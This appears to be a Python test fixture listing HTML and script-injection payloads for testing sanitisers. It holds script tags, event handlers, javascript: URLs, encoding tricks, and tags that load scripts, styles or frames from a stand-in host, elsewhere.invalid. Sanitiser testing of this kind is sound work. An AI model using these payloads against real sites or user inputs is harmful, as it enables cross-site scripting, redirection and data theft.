"""Texts that would like to be more than text: on a page, on a terminal, in a spreadsheet."""

AWAY = "http://elsewhere.invalid"
PAGE = (
    "<script>alert(1);document.title='run'</script>",
    "<ScRiPt src=//elsewhere.invalid/a.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "</title></style></textarea></script><img src=x onerror=alert(1)>",
    "</style><style>*{display:none}</style>",
    f"<style>@import '{AWAY}/a.css';body{{background:url({AWAY}/b)}}</style>",
    f"<link rel=stylesheet href={AWAY}/a.css>",
    f"<link rel=preload as=image href={AWAY}/a><link rel=prefetch href={AWAY}/b>",
    "<a href='javascript:alert(1)'>press</a>",
    "<a href=data:text/html,<script>alert(1)</script>>press</a>",
    f"<base href='{AWAY}/'>",
    f"<meta http-equiv=refresh content='0;url={AWAY}/'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    f"<form action={AWAY}><input name=a autofocus onfocus=alert(1)><button>send</button></form>",
    f"<iframe src={AWAY}></iframe><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={AWAY}/a.swf></object><embed src={AWAY}/a>",
    f"<video src={AWAY}/a autoplay onerror=alert(1)></video><audio src={AWAY}/b></audio>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
    '" onmouseover="alert(1)" style="width:expression(alert(1))" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)' x='",
    "` onmouseover=`alert(1)",
    "--><script>alert(1)</script><!--",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;lt; &#0;",
    "{policy}{0}{body.__class__}%s%(x)s$x^2$\\",
    "<plaintext><xmp><noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template><slot onslotchange=alert(1)>",
    "\u202e<script>alert(1)</script>\u202c \u2066evil\u2069 \u05d0\u05d1\u05d2",
    "<scr\x00ipt>alert(1)</scr\x00ipt>\x00<\x00img src=x onerror=alert(1)>",
    "<\ud800script>alert(1)</script>\udc00",
    "\ufeff+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\x1b]0;title\x07<img src=x onerror=alert(1)>\x9b31m",
)
INJECTED = (
    "<script>alert(1);document.title='run'</script>"
    f"<script src={AWAY}/a.js></script>"
    "<img src=x onerror=\"alert(1);document.title='run'\">"
    f"<img src={AWAY}/b.png>"
    f"<link rel=stylesheet href={AWAY}/c.css>"
    f"<style>.article{{display:none;background:url({AWAY}/d)}}</style>"
    f'<p style="background:url({AWAY}/e);width:77px" id=styled>x</p>'
    f"<iframe src={AWAY}/f></iframe>"
    f"<object data={AWAY}/g></object>"
    f"<video src={AWAY}/h autoplay></video>"
    f"<base href={AWAY}/i/>"
    "<a id=press href=\"javascript:alert(1);document.title='run'\">press</a>"
    f"<form action={AWAY}/j><button id=send>send</button></form>"
)
